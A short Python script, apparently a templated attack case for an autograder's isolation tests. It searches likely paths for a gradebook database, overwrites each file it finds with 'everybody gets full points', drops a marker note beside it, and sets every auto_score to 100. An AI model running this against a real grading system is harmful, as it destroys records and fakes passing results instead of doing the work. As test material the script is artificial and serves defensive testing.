"""The gradebook, written; and a file put beside it."""

# /// attack
# module = "02"
# status = ["graded"]
# ///

# %% first
import os, sqlite3
for path in ("@GRADEBOOK@", "@PROJECT@/assignments/gradebook.db", "../gradebook.db", "../../gradebook.db"):
    try:
        with open(path, "w") as file:
            file.write("everybody gets full points")
        with open(os.path.join(os.path.dirname(path), "note"), "w") as file:
            file.write("here")
        sqlite3.connect(path).execute("update grade set auto_score = 100")
    except (OSError, sqlite3.Error) as error:
        print(error)
